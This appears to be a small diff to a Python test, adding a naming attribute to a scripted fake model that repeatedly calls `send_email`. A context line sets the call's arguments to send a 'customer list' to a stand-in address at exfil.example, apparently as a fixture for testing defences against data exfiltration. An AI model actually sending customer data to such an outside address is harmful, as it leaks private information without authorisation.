@@ -34,6 +34,8 @@ ARGS = {"to": "audit-team@exfil.example", "body": "customer list"}
 class Script:
     """Calls send_email on each of the first ``attempts`` turns, then answers."""
 
+    __name__ = "script"  # older FunctionModel names the model after the function
+
     def __init__(self, attempts: int = 2) -> None:
         self.attempts = attempts
         self.seen: list[list[ModelMessage]] = []
